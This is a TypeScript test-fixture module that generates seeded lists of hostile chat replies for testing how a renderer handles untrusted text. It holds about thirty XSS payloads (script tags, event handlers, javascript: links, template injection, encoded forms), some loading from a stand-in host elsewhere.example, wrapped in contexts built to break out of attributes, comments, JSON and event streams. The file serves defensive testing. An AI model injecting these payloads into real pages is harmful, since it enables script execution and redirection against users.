/** What runs, asks elsewhere or leaves the page where a text is taken for more than text. */
const PAYLOADS = [
  "<script>alert(1)</script>",
  "<script src=https://elsewhere.example/x.js></script>",
  "<img src=x onerror=alert(1)>",
  "<img src=https://elsewhere.example/pixel.png>",
  "<svg onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<iframe src=https://elsewhere.example></iframe>",
  "<object data=https://elsewhere.example></object>",
  "<embed src=https://elsewhere.example>",
  "<base href=https://elsewhere.example>",
  "<link rel=stylesheet href=https://elsewhere.example/x.css>",
  "<style>@import url(https://elsewhere.example/x.css);body{display:none}</style>",
  "<meta http-equiv=refresh content=0;url=https://elsewhere.example>",
  "<form action=https://elsewhere.example><button autofocus>Create Account</button></form>",
  "<a href=javascript:alert(1)>tap me</a>",
  "[tap me](javascript:alert(1))",
  "![x](https://elsewhere.example/pixel.png)",
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "&lt;img src=x onerror=alert(1)&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<input autofocus onfocus=alert(1)>",
  "<template><img src=x onerror=alert(1)></template>",
  "＜script＞alert(1)＜/script＞",
  "<x id=alert(1) style=position:fixed;inset:0 onpointerover=alert(1)>",
] as const;

/** What a payload may stand in, to break out of an element, an attribute, a script, a comment, a fence. */
const CONTEXTS: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `"'>${payload}`,
  (payload) => `</p></article></div></main>${payload}`,
  (payload) => `--></style></script></textarea></title>${payload}`,
  (payload) => `]]>${payload}<!--`,
  (payload) => `\`\`\`html ${payload} \`\`\``,
  (payload) => `look 😀${payload}👩‍👩‍👧 there`,
  (payload) => `"},"type":"message-added","html":"${payload}`,
  (payload) => `data: [DONE] event: error data: ${payload}`,
  (payload) => payload.replaceAll("<", "<<").toUpperCase(),
  (payload) => `*${payload}* _${payload}_`,
  (payload) => `> # - 1. ${payload} | ${payload} |`,
  (payload) => `&quot;&gt;${payload}&amp;${payload}`,
  (payload) => `\u202E${payload}\u202C end`,
  (payload) => `<!DOCTYPE html><html><body>${payload}</body></html>`,
];

/** Mulberry32: numbers from 0 to 1, the same for the same seed. */
const numbersFrom = (seed: number) => {
  let state = seed;
  return (): number => {
    state = (state + 0x6d_2b_79_f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
};

/** So many different hostile replies of one line each, the same for the same seed. */
export const hostileReplies = (count: number, seed: number): readonly string[] => {
  const all = PAYLOADS.flatMap((payload) => CONTEXTS.map((context) => context(payload)));
  if (new Set(all).size < count) throw new Error(`there are only ${new Set(all).size}`);
  const number = numbersFrom(seed);
  return [...new Set(all)]
    .map((text) => ({ text, place: number() }))
    .toSorted((one, other) => one.place - other.place)
    .slice(0, count)
    .map(({ text }) => text);
};

/**
 * The text in pieces of 1 to 12 UTF-16 units, so that cuts fall inside tags, entities and pairs of
 * surrogates: JSON carries half a pair as an escape.
 */
export const inPieces = (text: string, seed: number): readonly string[] => {
  const number = numbersFrom(seed);
  const pieces: string[] = [];
  for (let at = 0; at < text.length;) {
    const next = at + 1 + Math.floor(number() * 12);
    pieces.push(text.slice(at, next));
    at = next;
  }
  return pieces;
};
